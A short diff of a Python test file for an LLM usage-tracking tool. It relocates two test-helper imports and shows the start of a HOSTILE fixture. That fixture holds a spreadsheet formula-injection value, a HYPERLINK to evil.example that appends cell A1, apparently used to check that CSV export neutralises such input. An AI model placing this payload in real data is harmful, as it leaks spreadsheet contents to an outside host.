@@ -10,8 +10,8 @@ import pytest
 
 from llmtally import Ledger, Settings
 from llmtally.export import neutralise
-from tests.cli.test_cli import llmtally
-from tests.web.conftest import ADA, ROOT, Api, event
+from tests.support.cli import llmtally
+from tests.support.web_seed import ADA, ROOT, Api, event
 
 HOSTILE = {
     "session_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
